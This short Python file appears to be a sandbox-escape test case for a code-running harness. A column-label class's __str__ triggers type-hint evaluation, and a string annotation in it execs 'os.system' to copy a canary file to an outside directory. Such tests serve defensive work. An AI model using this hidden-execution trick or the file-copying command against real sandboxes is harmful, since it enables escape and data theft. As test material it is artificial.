# class: class_def
# technique: a small class (allowed since v2) whose __str__ runs a get_type_hints annotation: the harness calls str(c) on every column label after the snippet returned (E11: an implicit call, in the harness's frame)
# goal: exec
import typing

import numpy as np
import pandas as pd

scope = {"cmd": "cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-late"}
source = "import os\nos.system(cmd)"


def late(x: "[exec(source, scope), int][-1]"):
    return x


class Label:
    def __str__(self):
        typing.get_type_hints(late)
        return "value"

    def __hash__(self):
        return 7

    def __eq__(self, other):
        return self is other


df = pd.DataFrame({Label(): np.arange(3)})
